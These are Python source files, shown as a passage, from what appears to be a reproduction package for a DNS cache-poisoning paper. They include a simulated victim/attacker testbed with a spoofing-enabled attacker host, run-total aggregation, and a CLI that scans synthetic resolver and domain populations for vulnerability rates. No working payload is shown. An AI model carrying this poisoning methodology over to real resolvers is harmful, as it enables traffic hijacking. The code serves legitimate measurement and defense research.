        return self.impacts_realized / self.app_runs if self.app_runs \
            else 0.0

    def to_json(self) -> dict:
        return {
            "key": self.key,
            "runs": self.runs,
            "successes": self.successes,
            "success_rate": self.success_rate,
            "packets": self.packets,
            "queries": self.queries,
            "duration": self.duration,
            "wall_time": self.wall_time,
            "app_runs": self.app_runs,
            "impacts_realized": self.impacts_realized,
            "impact_rate": self.impact_rate,
            "loaded_runs": self.loaded_runs,
        }


def totals_from_store(store: RunStore, by: str | None = None,
                      **filters: Any) -> dict[str, RunTotals]:
    """Grouped mergeable totals; ``by=None`` folds everything into "all"."""
    if by is not None and by not in GROUP_AXES:
        raise StoreError(
            f"unknown aggregation axis {by!r}; pick one of "
            f"{', '.join(GROUP_AXES)}")
    groups: dict[str, RunTotals] = {}
    for record in store.iter_records(**filters):
        key = "all" if by is None else str(getattr(record, by))
        groups.setdefault(key, RunTotals(key=key)).note(record)
    return groups


def campaign_from_store(store: RunStore,
                        **filters: Any) -> "CampaignResult":
    """Rebuild a :class:`CampaignResult` from stored cells, no re-run.

    ``wall_time`` sums the stored per-cell wall times (the compute the
    store saved you), and the result is flagged with a provenance note.
    Runs come back in deterministic key order — stable across calls,
    though not necessarily the original sweep's submission order.
    """
    # Imported here so `import repro.store` works without dragging the
    # whole scenario stack in for key-only usage.
    from repro.scenario.campaign import CampaignResult

    runs = []
    wall_time = 0.0
    for record in store.iter_records(**filters):
        runs.append(record.to_run())
        wall_time += record.wall_time
    return CampaignResult(
        runs=runs, wall_clock=wall_time, workers=0, executor="store",
        notes=[f"reconstructed from {store.path} ({len(runs)} stored "
               "cells, 0 re-run)"])


def summaries_from_store(store: RunStore, by: str = "method",
                         **filters: Any) -> dict[str, "MethodSummary"]:
    """The live ``MethodSummary`` groupings, computed from the store."""
    result = campaign_from_store(store, **filters)
    if by == "method":
        return result.by_method()
    if by == "label":
        return result.by_label()
    if by == "app":
        return result.by_app()
    if by == "defense":
        return result.by_defense()
    raise StoreError(
        f"unknown summary axis {by!r}; pick one of method, label, app, "
        "defense")


def merge_totals(streams: Iterable[dict[str, RunTotals]]
                 ) -> dict[str, RunTotals]:
    """Combine grouped totals from several stores / partial sweeps."""
    merged: dict[str, RunTotals] = {}
    for groups in streams:
        for key, totals in groups.items():
            merged[key] = merged[key].merge(totals) if key in merged \
                else totals
    return merged
