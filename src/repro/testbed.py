"""Reusable experiment topology mirroring the paper's ethics setup.

The authors ran their attacks against infrastructure they set up
themselves: a victim AS with its resolver and services, victim domains
with their own nameservers, and an adversarial AS (paper, "Disclosure and
ethics"; Figures 1 and 2 use the concrete addresses reproduced here).
:class:`Testbed` builds exactly that world on the simulated network:

* a DNS root and TLD infrastructure so resolution is genuinely iterative;
* the victim network ``30.0.0.0/24`` with resolver ``30.0.0.1`` and a
  service host ``30.0.0.25``;
* the target domain ``vict.im`` served by ``123.0.0.53`` inside
  ``123.0.0.0/24``;
* the attacker at ``6.6.6.6`` on a spoofing-friendly network.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from repro.core.eventlog import EventLog, NullLog
from repro.core.rng import DeterministicRNG
from repro.dns.dnssec import DnssecRegistry
from repro.dns.nameserver import AuthoritativeServer, NameserverConfig
from repro.dns.records import ResourceRecord, rr_a, rr_ns
from repro.dns.resolver import RecursiveResolver, ResolverConfig
from repro.dns.zones import Zone
from repro.netsim.host import Host, HostConfig
from repro.netsim.network import Network

ROOT_SERVER_IP = "198.41.0.4"
VICTIM_PREFIX = "30.0.0.0/24"
RESOLVER_IP = "30.0.0.1"
SERVICE_IP = "30.0.0.25"
TARGET_NS_IP = "123.0.0.53"
TARGET_WEB_IP = "123.0.0.80"
ATTACKER_IP = "6.6.6.6"
TARGET_DOMAIN = "vict.im"
# A host inside the target domain whose qname is long enough that the
# answer rdata lands in the second fragment at the minimum MTU of 68 —
# the FragDNS benches and examples race this name.
FRAG_TARGET_NAME = "secure-login.vict.im"


def default_resolver_config() -> ResolverConfig:
    """The victim resolver config a testbed builds when none is given.

    The single source of truth for "unconfigured resolver": the
    defense-stack transforms (:mod:`repro.defenses.base`) and the
    legacy mitigation shim materialise this same default before
    rewriting a knob, so a defended world differs from its baseline
    only in what the defense actually writes.
    """
    return ResolverConfig(allowed_clients=[VICTIM_PREFIX])


@dataclass
class DomainSetup:
    """Bookkeeping for one domain added to the testbed."""

    name: str
    ns_name: str
    ns_ip: str
    server: AuthoritativeServer
    zone: Zone


class Testbed:
    """A programmable mini-Internet with a full DNS delegation tree."""

    __test__ = False  # not a pytest collection target

    def __init__(self, seed: int | str = 0, default_latency: float = 0.01,
                 trace: bool = True):
        self.rng = DeterministicRNG(seed)
        # Untraced testbeds (statistical campaigns, population scans) get
        # the NullLog: the event-record fast path costs nothing and the
        # log interface stays intact for any code that queries it.
        self.log = EventLog() if trace else NullLog()
        self.network = Network(default_latency=default_latency, log=self.log)
        self.dnssec = DnssecRegistry()
        self.domains: dict[str, DomainSetup] = {}
        self._tld_servers: dict[str, AuthoritativeServer] = {}
        self._tld_zones: dict[str, Zone] = {}
        self._next_tld_ip = 10
        root_host = self.network.attach(Host(
            "root-ns", ROOT_SERVER_IP,
            config=HostConfig(icmp_rate_limited=False),
            rng=self.rng.derive("root"),
        ))
        self.root_zone = Zone("")
        self.root_server = AuthoritativeServer(root_host, rng=self.rng)
        self.root_server.add_zone(self.root_zone)
        self.root_hints = [ROOT_SERVER_IP]

    # -- infrastructure builders ---------------------------------------------

    def _ensure_tld(self, tld: str) -> Zone:
        if tld in self._tld_zones:
            return self._tld_zones[tld]
        address = f"192.5.{self._next_tld_ip}.30"
        self._next_tld_ip += 1
        host = self.network.attach(Host(
            f"tld-{tld}", address,
            config=HostConfig(icmp_rate_limited=False),
            rng=self.rng.derive(f"tld-{tld}"),
        ))
        server = AuthoritativeServer(host, rng=self.rng.derive(f"auth-{tld}"))
        zone = Zone(tld)
        server.add_zone(zone)
        ns_name = f"a.nic.{tld}"
        self.root_zone.add(rr_ns(tld, ns_name, ttl=86400))
        self.root_zone.add(rr_a(ns_name, address, ttl=86400))
        zone.add(rr_ns(tld, ns_name, ttl=86400))
        zone.add(rr_a(ns_name, address, ttl=86400))
        self._tld_servers[tld] = server
        self._tld_zones[tld] = zone
        return zone

    def add_domain(self, name: str, ns_ip: str,
                   records: list[ResourceRecord] | None = None,
                   signed: bool = False,
                   ns_config: NameserverConfig | None = None,
                   host_config: HostConfig | None = None) -> DomainSetup:
        """Create a domain with its own authoritative server and delegation."""
        name = name.rstrip(".").lower()
        if name in self.domains:
            raise ValueError(f"domain already exists: {name}")
        tld = name.rsplit(".", 1)[-1]
        tld_zone = self._ensure_tld(tld)
        ns_name = f"ns1.{name}"
        host = self.network.host_for(ns_ip)
        if host is None:
            host = self.network.attach(Host(
                f"ns-{name}", ns_ip,
                config=host_config if host_config is not None
                else HostConfig(),
                rng=self.rng.derive(f"ns-{name}"),
            ))
            server = AuthoritativeServer(
                host,
                config=ns_config if ns_config is not None
                else NameserverConfig(),
                rng=self.rng.derive(f"auth-{name}"),
            )
        else:
            server = self._server_on(host)
        zone = Zone(name, signed=signed)
        zone.add(rr_ns(name, ns_name, ttl=3600))
        zone.add(rr_a(ns_name, ns_ip, ttl=3600))
        if records:
            zone.add_all(records)
        server.add_zone(zone)
        tld_zone.add(rr_ns(name, ns_name, ttl=3600))
        tld_zone.add(rr_a(ns_name, ns_ip, ttl=3600))
        if signed:
            self.dnssec.register(name)
        setup = DomainSetup(name=name, ns_name=ns_name, ns_ip=ns_ip,
                            server=server, zone=zone)
        self.domains[name] = setup
        return setup

    def _server_on(self, host: Host) -> AuthoritativeServer:
        for domain in self.domains.values():
            if domain.server.host is host:
                return domain.server
        raise ValueError(f"no authoritative server on {host.name}")

    def make_resolver(self, address: str = RESOLVER_IP,
                      config: ResolverConfig | None = None,
                      host_config: HostConfig | None = None,
                      name: str | None = None) -> RecursiveResolver:
        """Attach a recursive resolver host serving the victim network."""
        if config is None:
            config = default_resolver_config()
        host = self.network.attach(Host(
            name if name is not None else f"resolver-{address}",
            address,
            config=host_config if host_config is not None else HostConfig(),
            rng=self.rng.derive(f"resolver-{address}"),
        ))
        return RecursiveResolver(
            host, root_hints=self.root_hints, config=config,
            dnssec=self.dnssec, rng=self.rng.derive(f"res-rng-{address}"),
        )

    def make_host(self, name: str, address: str,
                  spoofing: bool = False,
                  host_config: HostConfig | None = None) -> Host:
        """Attach a plain host (service, client or attacker).

        The caller's ``host_config`` is never mutated: one config object
        can safely parameterise many hosts (or scenario sweeps).
        """
        if host_config is None:
            host_config = HostConfig(egress_spoofing_allowed=spoofing)
        elif spoofing and not host_config.egress_spoofing_allowed:
            host_config = replace(host_config, egress_spoofing_allowed=True)
        return self.network.attach(Host(
            name, address, config=host_config,
            rng=self.rng.derive(f"host-{name}"),
        ))

    # -- simulation helpers ----------------------------------------------------

    def run(self, duration: float | None = None) -> None:
        """Drive the network (all queued events, or a bounded slice)."""
        self.network.run(duration)

    @property
    def now(self) -> float:
        """Current virtual time."""
        return self.network.now

    def domain(self, name: str) -> DomainSetup:
        """Lookup a previously added domain."""
        return self.domains[name.rstrip(".").lower()]


def standard_testbed(seed: int | str = 0,
                     resolver_config: ResolverConfig | None = None,
                     ns_config: NameserverConfig | None = None,
                     ns_host_config: HostConfig | None = None,
                     resolver_host_config: HostConfig | None = None,
                     signed_target: bool = False,
                     trace: bool = True) -> dict:
    """The Figure 1 / Figure 2 world, ready for attacks.

    Returns a dict with the testbed and the named principals:
    ``testbed``, ``resolver``, ``service``, ``attacker``, ``target``
    (the vict.im :class:`DomainSetup`).  ``trace=False`` builds the
    world with a :class:`repro.core.eventlog.NullLog` — the zero-cost
    path statistical campaigns run on.
    """
    bed = Testbed(seed=seed, trace=trace)
    target = bed.add_domain(
        TARGET_DOMAIN, TARGET_NS_IP,
        records=[
            rr_a(TARGET_DOMAIN, TARGET_WEB_IP, ttl=300),
            rr_a(FRAG_TARGET_NAME, TARGET_WEB_IP, ttl=300),
        ],
        signed=signed_target,
        ns_config=ns_config,
        host_config=ns_host_config,
    )
    resolver = bed.make_resolver(RESOLVER_IP, config=resolver_config,
                                 host_config=resolver_host_config)
    service = bed.make_host("victim-service", SERVICE_IP)
    attacker = bed.make_host("attacker", ATTACKER_IP, spoofing=True)
    return {
        "testbed": bed,
        "resolver": resolver,
        "service": service,
        "attacker": attacker,
        "target": target,
    }
