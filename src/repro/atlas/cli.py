"""``python -m repro.atlas`` — the attack-surface atlas command line.

Four subcommands tie the subsystem together:

* ``synth`` — stream a population shard-by-shard, report throughput and
  a rolling checksum; ``--verify`` additionally streams the monolithic
  generator and proves the shard-merge is bit-identical.
* ``scan`` — run the sharded Section 5 scan over one or all datasets at
  full paper scale (resumable with ``--store``), print the atlas-backed
  Tables 3/4 (and the Table 5 implementation matrix) with deviations
  from the paper's numbers.
* ``calibrate`` — stratify a scanned population by vulnerability
  profile and validate planner verdicts with a stratified campaign
  sub-sample.
* ``report`` — re-render the tables from a store without rescanning.
"""

from __future__ import annotations

import argparse
import json
import sys
import time

from repro.atlas.aggregate import DOMAIN_FLAGS, RESOLVER_FLAGS, ScanAggregate
from repro.atlas.calibrate import calibrate_population, project_deployment
from repro.atlas.pipeline import AtlasScanReport, scan_dataset
from repro.atlas.shards import find_dataset, shard_ranges
from repro.atlas.store import AtlasStore
from repro.atlas.synth import iter_entities, stream_checksum
from repro.measurements.population import (
    DOMAIN_DATASETS,
    RESOLVER_DATASETS,
    DomainDatasetSpec,
    ResolverDatasetSpec,
)
from repro.measurements.report import render_table
from repro.parallel.workers import parse_workers

#: Calibration drift allowed between a full-scale scan and the paper's
#: measured percentages (points).  The generator draws joint
#: distributions from conditional rates, so a few points of model error
#: are expected on top of (negligible at 1.58M) sampling noise.
DEFAULT_TOLERANCE = 8.0

#: Datasets too small for percentage comparisons to mean anything.
MIN_TOLERANCE_SIZE = 2_000


def parse_seed(value: str) -> int | str:
    """Numeric seeds become ints so ``--seed 0`` names the same
    population as the API's ``seed=0`` (the spec hash covers the seed)."""
    try:
        return int(value)
    except ValueError:
        return value


def _selected_specs(dataset: str) -> list[ResolverDatasetSpec
                                          | DomainDatasetSpec]:
    if dataset == "all":
        return list(RESOLVER_DATASETS) + list(DOMAIN_DATASETS)
    if dataset == "resolvers":
        return list(RESOLVER_DATASETS)
    if dataset == "domains":
        return list(DOMAIN_DATASETS)
    return [find_dataset(dataset)]


def _expected(spec) -> dict[str, float]:
    if isinstance(spec, ResolverDatasetSpec):
        return {"hijack": spec.expected_hijack,
                "saddns": spec.expected_saddns,
                "frag": spec.expected_frag}
    return {"hijack": spec.expected_hijack,
            "saddns": spec.expected_saddns,
            "frag_any": spec.expected_frag_any,
            "frag_global": spec.expected_frag_global,
            "dnssec": spec.expected_dnssec}


def _deviations(report: AtlasScanReport) -> dict[str, float]:
    spec = find_dataset(report.dataset)
    return {
        flag: abs(report.summary.pct(flag) - expected)
        for flag, expected in _expected(spec).items()
    }


def _render_reports(reports: list[AtlasScanReport], kind: str,
                    tolerance: float) -> tuple[str, list[str]]:
    """One atlas-backed table per entity kind, plus deviation notes."""
    flags = RESOLVER_FLAGS if kind == "resolver" else DOMAIN_FLAGS
    headers = (["Dataset", "Entities scanned"]
               + [f"{flag} %" for flag in flags]
               + ["Paper", "Max dev", "Shards (new+cached)", "Wall (s)"])
    rows = []
    failures = []
    for report in reports:
        if report.kind != kind:
            continue
        deviations = _deviations(report)
        worst = max(deviations.values()) if deviations else 0.0
        spec = find_dataset(report.dataset)
        paper = "/".join(f"{value:.0f}" for value in
                         _expected(spec).values())
        rows.append([
            report.label, f"{report.entities:,}",
            *[f"{report.summary.pct(flag):.1f}" for flag in flags],
            paper, f"{worst:.1f}",
            f"{len(report.computed_shards)}+{len(report.cached_shards)}",
            f"{report.wall_clock:.1f}",
        ])
        if report.entities >= MIN_TOLERANCE_SIZE and worst > tolerance:
            failures.append(
                f"{report.dataset}: max deviation {worst:.1f} points "
                f"exceeds tolerance {tolerance:.1f}")
    title = ("Table 3 (atlas): vulnerable resolvers, full populations"
             if kind == "resolver" else
             "Table 4 (atlas): vulnerable domains, full populations")
    return render_table(headers, rows, title=title), failures


def bench_payload(reports: list[AtlasScanReport],
                  wall_clock: float) -> dict:
    """The machine-readable scan record (``BENCH_atlas.json`` shape)."""
    computed = sum(r.computed_entities for r in reports)
    return {
        "benchmark": "atlas-scan",
        "wall_time_seconds": round(wall_clock, 3),
        "entities_total": sum(r.entities for r in reports),
        "entities_computed": computed,
        "entities_per_second": round(computed / wall_clock, 1)
        if wall_clock > 0 else 0.0,
        "shard_count": sum(r.shard_count for r in reports),
        "shards_computed": sum(len(r.computed_shards) for r in reports),
        "shards_cached": sum(len(r.cached_shards) for r in reports),
        "datasets": [
            {
                "dataset": r.dataset,
                "kind": r.kind,
                "spec_hash": r.spec_hash,
                "entities": r.entities,
                "entities_per_second": round(r.entities_per_second, 1),
                "shards": r.shard_count,
                "cached_shards": len(r.cached_shards),
                "executor": r.executor,
                "workers": r.workers,
                "wall_time_seconds": round(r.wall_clock, 3),
                "percentages": {flag: round(r.summary.pct(flag), 2)
                                for flag in r.aggregate.flag_names()},
                "max_deviation_points": round(
                    max(_deviations(r).values()), 2),
            }
            for r in reports
        ],
    }


def _cmd_synth(args: argparse.Namespace) -> int:
    spec = find_dataset(args.dataset)
    entities = min(args.entities, spec.full_size) if args.entities \
        else spec.full_size
    ranges = shard_ranges(entities, args.shards)
    started = time.perf_counter()

    def sharded_stream():
        for shard in ranges:
            yield from iter_entities(spec, seed=args.seed,
                                     lo=shard.lo, hi=shard.hi)

    checksum = stream_checksum(sharded_stream())
    wall = time.perf_counter() - started
    rate = entities / wall if wall > 0 else 0.0
    print(f"synth {spec.key}: {entities:,} entities in {len(ranges)} "
          f"shards, {wall:.1f}s ({rate:,.0f} entities/s)")
    print(f"shard-merged stream checksum: {checksum}")
    if args.verify:
        monolithic = stream_checksum(
            iter_entities(spec, seed=args.seed, lo=0, hi=entities))
        if monolithic != checksum:
            print("VERIFY FAILED: shard-merged stream differs from the "
                  "monolithic stream", file=sys.stderr)
            return 1
        print("verify: shard-merge == monolithic generation (bit-for-bit)")
    return 0


def _run_scan(args: argparse.Namespace
              ) -> tuple[list[AtlasScanReport], float]:
    store = AtlasStore(args.store) if args.store else None
    reports = []
    started = time.perf_counter()
    for spec in _selected_specs(args.dataset):
        report = scan_dataset(
            spec, seed=args.seed, entities=args.entities,
            shards=args.shards, workers=args.workers,
            executor=args.executor, store=store,
            kernel=getattr(args, "kernel", "auto"),
        )
        reports.append(report)
        print(f"scanned {report.dataset}: {report.entities:,} entities, "
              f"{len(report.computed_shards)} shards computed + "
              f"{len(report.cached_shards)} cached, "
              f"{report.wall_clock:.1f}s ({report.executor}, "
              f"workers={report.workers})")
        for note in report.notes:
            print(f"  note: {note}")
    return reports, time.perf_counter() - started


def _cmd_scan(args: argparse.Namespace) -> int:
    reports, wall = _run_scan(args)
    failures: list[str] = []
    for kind in ("resolver", "domain"):
        if any(r.kind == kind for r in reports):
            table, kind_failures = _render_reports(reports, kind,
                                                   args.tolerance)
            print()
            print(table)
            failures.extend(kind_failures)
    if not args.no_table5:
        from repro.experiments import table5

        result = table5.run(workers=args.workers)
        print()
        print(result.rendered)
        matches = result.data["matches"]
        total = result.data["total"]
        if matches != total:
            failures.append(
                f"table5: only {matches}/{total} implementation verdicts "
                "match the paper")
        else:
            print(f"table5: {matches}/{total} implementation verdicts "
                  "match the paper")
    print(f"\natlas scan: {sum(r.entities for r in reports):,} entities "
          f"in {wall:.1f}s")
    if args.json:
        payload = bench_payload(reports, wall)
        with open(args.json, "w", encoding="utf-8") as handle:
            json.dump(payload, handle, indent=2, sort_keys=True)
        print(f"wrote {args.json}")
    for failure in failures:
        print(f"DEVIATION: {failure}", file=sys.stderr)
    return 1 if failures else 0


def _cmd_calibrate(args: argparse.Namespace) -> int:
    from repro.defenses import DefenseStack

    stacks = [DefenseStack.parse(text) for text in (args.defend or [])]
    reports, _wall = _run_scan(args)
    run_store = None
    if args.run_store:
        from repro.store import RunStore

        run_store = RunStore(args.run_store)
    status = 0
    for report in reports:
        for stack in (stacks or [None]):
            calibration = calibrate_population(
                report.aggregate, dataset=report.dataset, seed=args.seed,
                sample_budget=args.sample_budget, workers=args.workers,
                app=args.app, defenses=stack, store=run_store,
            )
            print()
            print(calibration.describe())
            if calibration.validated_fraction < 1.0:
                status = 1
        if stacks:
            # The quantitative Section 6 table: per-stratum residual
            # methodology and neutralized population weight per stack,
            # projected over the full scanned population.
            print()
            print(project_deployment(report.aggregate, report.dataset,
                                     stacks).describe())
    return status


def _cmd_report(args: argparse.Namespace) -> int:
    store = AtlasStore(args.store)
    hashes = store.spec_hashes()
    if not hashes:
        print(f"store {args.store} holds no scans", file=sys.stderr)
        return 1
    status = 0
    by_kind: dict[str, list[list[str]]] = {"resolver": [], "domain": []}
    for spec_hash in hashes:
        records = store.load(spec_hash)
        if not records:
            continue
        ordered = [records[shard_id] for shard_id in sorted(records)]
        # Last-wins records from different --shards layouts would
        # overlap or leave gaps; only a contiguous tiling of the index
        # space merges into honest population statistics.
        tiles = all(left.hi == right.lo
                    for left, right in zip(ordered, ordered[1:])) \
            and ordered[0].lo == 0
        if not tiles:
            print(f"skipping {spec_hash} ({ordered[0].dataset}): stored "
                  "shards mix incompatible layouts; rescan with one "
                  "--shards value", file=sys.stderr)
            status = 1
            continue
        kind = ordered[0].kind
        aggregate = ScanAggregate.merged(
            kind, [record.aggregate for record in ordered])
        dataset = ordered[0].dataset
        try:
            label = find_dataset(dataset).label
        except KeyError:
            label = dataset
        flags = RESOLVER_FLAGS if kind == "resolver" else DOMAIN_FLAGS
        by_kind[kind].append([
            label, spec_hash, f"{aggregate.count:,}", f"{len(ordered)}",
            *[f"{aggregate.pct(flag):.1f}" for flag in flags],
        ])
    for kind, rows in by_kind.items():
        if not rows:
            continue
        flags = RESOLVER_FLAGS if kind == "resolver" else DOMAIN_FLAGS
        headers = (["Dataset", "Spec hash", "Entities", "Shards"]
                   + [f"{flag} %" for flag in flags])
        print(render_table(
            headers, rows,
            title=f"Stored atlas scans ({kind} populations)"))
        print()
    return status


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.atlas",
        description=__doc__.split("\n\n")[0],
    )
    sub = parser.add_subparsers(dest="command", required=True)

    def common(p, dataset_default: str) -> None:
        p.add_argument("--dataset", default=dataset_default,
                       help="dataset key, or resolvers/domains/all")
        p.add_argument("--entities", type=int, default=None,
                       help="cap entities per dataset "
                            "(default: the paper's full size)")
        p.add_argument("--shards", type=int, default=16)
        p.add_argument("--seed", type=parse_seed, default=0)
        p.add_argument("--workers", type=parse_workers, default=None,
                       help="worker processes, or 'auto' for all "
                            "schedulable CPUs (env: REPRO_WORKERS)")
        p.add_argument("--executor", choices=("process", "serial"),
                       default="process")
        p.add_argument("--kernel", default="auto",
                       choices=("auto", "vector", "python", "scalar"),
                       help="per-shard scan implementation (all "
                            "bit-identical; default picks the "
                            "vectorised kernel when numpy is present)")
        p.add_argument("--store", default=None,
                       help="shard-result store directory (enables resume)")

    synth = sub.add_parser(
        "synth", help="stream-synthesise a population, no scanning")
    synth.add_argument("--dataset", default="open")
    synth.add_argument("--entities", type=int, default=None)
    synth.add_argument("--shards", type=int, default=16)
    synth.add_argument("--seed", type=parse_seed, default=0)
    synth.add_argument("--verify", action="store_true",
                       help="also stream monolithically and compare "
                            "checksums")
    synth.set_defaults(fn=_cmd_synth)

    scan = sub.add_parser(
        "scan", help="sharded Section 5 scan at population scale")
    common(scan, "all")
    scan.add_argument("--tolerance", type=float, default=DEFAULT_TOLERANCE,
                      help="allowed deviation (points) from the paper")
    scan.add_argument("--json", default=None,
                      help="write a BENCH_atlas.json-style record here")
    scan.add_argument("--no-table5", action="store_true",
                      help="skip the Table 5 implementation matrix")
    scan.set_defaults(fn=_cmd_scan)

    calibrate = sub.add_parser(
        "calibrate", help="stratified campaign validation of a scan")
    common(calibrate, "open")
    calibrate.add_argument("--sample-budget", type=int, default=24,
                           help="total end-to-end attack runs to allocate")
    calibrate.add_argument("--app", default=None,
                           help="Table 1 application driver: weight its "
                                "kill-chain impact across the population")
    calibrate.add_argument("--defend", action="append", default=None,
                           metavar="STACK",
                           help="defense stack to deploy, e.g. 'dnssec' or"
                                " '0x20-encoding+rpki-rov' (repeatable; "
                                "also emits the deployment-projection "
                                "table across all given stacks)")
    calibrate.add_argument("--run-store", default=None, metavar="DB",
                           help="SQLite run store: record every campaign "
                                "cell and resume killed calibrations "
                                "(--store is the shard store; this one "
                                "holds executed attack runs)")
    calibrate.set_defaults(fn=_cmd_calibrate)

    report = sub.add_parser(
        "report", help="re-render tables from a store, no rescanning")
    report.add_argument("--store", required=True)
    report.set_defaults(fn=_cmd_report)
    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    return args.fn(args)
