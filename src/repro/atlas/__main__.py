"""Entry point for ``python -m repro.atlas``."""

import sys

from repro.atlas.cli import main

if __name__ == "__main__":
    sys.exit(main())
