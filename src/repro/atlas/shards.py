"""Shard geometry and population identity for the attack-surface atlas.

A population is identified by everything that determines its entity
stream bit-for-bit: the dataset calibration, the generator seed, the
total entity count and the atlas format version.  The shard layout is
deliberately *excluded* from the hash — entity ``index`` alone seeds
each entity (see :mod:`repro.atlas.synth`), so re-sharding the same
population re-partitions identical entities, and stored shard results
stay valid as long as the shard *ranges* match.  The ranges themselves
are recorded per shard in the store and validated on resume.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import asdict, dataclass

from repro.measurements.population import (
    DOMAIN_DATASETS,
    RESOLVER_DATASETS,
    DomainDatasetSpec,
    ResolverDatasetSpec,
)

#: Bump when the entity stream changes incompatibly (draw order, new
#: fields, address scheme): old store entries then miss on hash and are
#: recomputed instead of silently merged across formats.
ATLAS_FORMAT_VERSION = 1

KIND_RESOLVER = "resolver"
KIND_DOMAIN = "domain"
KINDS = (KIND_RESOLVER, KIND_DOMAIN)

DatasetSpec = ResolverDatasetSpec | DomainDatasetSpec


def dataset_kind(spec: DatasetSpec) -> str:
    """Which entity stream a calibration spec describes."""
    return KIND_RESOLVER if isinstance(spec, ResolverDatasetSpec) \
        else KIND_DOMAIN


def find_dataset(key: str) -> DatasetSpec:
    """Look up a Table 3 or Table 4 calibration row by key."""
    for spec in RESOLVER_DATASETS + DOMAIN_DATASETS:
        if spec.key == key:
            return spec
    known = [s.key for s in RESOLVER_DATASETS + DOMAIN_DATASETS]
    raise KeyError(f"unknown dataset {key!r}; known: {', '.join(known)}")


def population_spec_hash(spec: DatasetSpec, seed: int | str,
                         entities: int) -> str:
    """Stable identity of one synthetic population's entity stream."""
    payload = {
        "atlas_format": ATLAS_FORMAT_VERSION,
        "kind": dataset_kind(spec),
        "spec": asdict(spec),
        "seed": seed,
        "entities": entities,
    }
    canonical = json.dumps(payload, sort_keys=True, default=str)
    return hashlib.sha256(canonical.encode("utf-8")).hexdigest()[:16]


@dataclass(frozen=True)
class ShardRange:
    """One contiguous slice ``[lo, hi)`` of a population's index space."""

    shard_id: int
    lo: int
    hi: int

    @property
    def size(self) -> int:
        return self.hi - self.lo


def shard_ranges(entities: int, shards: int) -> list[ShardRange]:
    """Split ``[0, entities)`` into ``shards`` near-equal ranges.

    The first ``entities % shards`` shards carry one extra entity, so
    concatenating the ranges in shard order reproduces the monolithic
    index space exactly.
    """
    if entities < 0:
        raise ValueError(f"entities must be >= 0, got {entities}")
    if shards < 1:
        raise ValueError(f"shards must be >= 1, got {shards}")
    shards = min(shards, entities) or 1
    base, extra = divmod(entities, shards)
    ranges = []
    lo = 0
    for shard_id in range(shards):
        hi = lo + base + (1 if shard_id < extra else 0)
        ranges.append(ShardRange(shard_id=shard_id, lo=lo, hi=hi))
        lo = hi
    return ranges
