"""``repro.atlas`` — the Internet-scale attack-surface atlas.

The paper's measurement study (Section 5) runs against populations of
up to 1.58M open resolvers and 1M domains.  The sampled experiment path
(:mod:`repro.experiments.table3`/``table4`` at ``scale=0.01``) keeps
those numbers honest statistically; the atlas makes them *computable*:

* **sharded synthesis** (:mod:`repro.atlas.synth`) — every entity is
  seeded by ``(seed, dataset, index)`` and produced by the same draw
  kernel the monolithic generator uses, so shard producers are
  seekable, stream in constant memory, and a shard-merge equals the
  monolithic stream bit-for-bit;
* **parallel scan pipeline** (:mod:`repro.atlas.pipeline`) — shards run
  on ``concurrent.futures`` process workers and return mergeable
  :class:`repro.atlas.aggregate.ScanAggregate` counters/histograms,
  scaling Tables 3 and 4 to the paper's full dataset sizes;
* **persistent result store** (:mod:`repro.atlas.store`) — an
  append-only JSON-lines store keyed by ``(population_spec_hash,
  shard_id)``; rerunning an interrupted scan recomputes only missing
  shards;
* **campaign calibration bridge** (:mod:`repro.atlas.calibrate`) —
  scanned entities are stratified by vulnerability profile, mapped onto
  planner profiles and validated with a stratified
  :class:`repro.scenario.Campaign` sub-sample of end-to-end attacks.

Quickstart::

    from repro.atlas import scan_dataset, find_dataset, AtlasStore

    spec = find_dataset("open")               # 1.58M open resolvers
    store = AtlasStore(".atlas-store")        # enables resume
    report = scan_dataset(spec, entities=200_000, shards=16, store=store)
    print(report.summary.percentages)         # Table 3 'open' row
    print(f"{report.entities_per_second:,.0f} entities/s")

    from repro.atlas import calibrate_population
    calibration = calibrate_population(report.aggregate, "open",
                                       sample_budget=12)
    print(calibration.describe())             # planner vs. simulation

or from the shell::

    python -m repro.atlas scan --entities 1580000 --shards 16 \
        --store .atlas-store
    python -m repro.atlas synth --dataset open --entities 100000 --verify
    python -m repro.atlas calibrate --dataset open --entities 50000
    python -m repro.atlas report --store .atlas-store
"""

from repro.atlas.aggregate import ScanAggregate, stratum_key
from repro.atlas.calibrate import (
    CalibrationReport,
    DeploymentProjection,
    StratumCalibration,
    StratumProjection,
    calibrate_population,
    profile_for_stratum,
    project_deployment,
)
from repro.atlas.pipeline import (
    AtlasScanReport,
    all_dataset_specs,
    run_tasks,
    scan_dataset,
    scan_many,
)
from repro.atlas.shards import (
    ShardRange,
    dataset_kind,
    find_dataset,
    population_spec_hash,
    shard_ranges,
)
from repro.atlas.store import AtlasStore, ShardRecord
from repro.atlas.synth import (
    iter_domains,
    iter_entities,
    iter_front_ends,
    stream_checksum,
)

__all__ = [
    "AtlasScanReport",
    "AtlasStore",
    "CalibrationReport",
    "DeploymentProjection",
    "ScanAggregate",
    "ShardRange",
    "ShardRecord",
    "StratumCalibration",
    "StratumProjection",
    "all_dataset_specs",
    "calibrate_population",
    "project_deployment",
    "dataset_kind",
    "find_dataset",
    "iter_domains",
    "iter_entities",
    "iter_front_ends",
    "population_spec_hash",
    "profile_for_stratum",
    "run_tasks",
    "scan_dataset",
    "scan_many",
    "shard_ranges",
    "stratum_key",
    "stream_checksum",
]
