"""Parallel scan pipeline: shard producers × Section 5 scanners.

Each shard is one task — ``(spec, seed, lo, hi)`` — shipped to a
``concurrent.futures`` process worker that *streams* its entities
through the scanners and returns only a mergeable
:class:`repro.atlas.aggregate.ScanAggregate`, never the entities
themselves.  Because every entity is seeded by its own index
(:mod:`repro.atlas.synth`), the merged result is bit-identical across
the serial and process executors and across any shard count.

With a :class:`repro.atlas.store.AtlasStore` attached, completed shards
are appended as they finish and a rerun of an interrupted scan
recomputes only the shards the store is missing.
"""

from __future__ import annotations

import time
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field
from typing import Any, Callable, Iterable

from repro.atlas.aggregate import ScanAggregate
from repro.obs import OBS
from repro.obs.profile import STAGE_EDGES_MS, stage
from repro.parallel.kernel import (
    VectorScanner,
    scan_range,
    vector_available,
)
from repro.parallel.scheduler import run_stealing
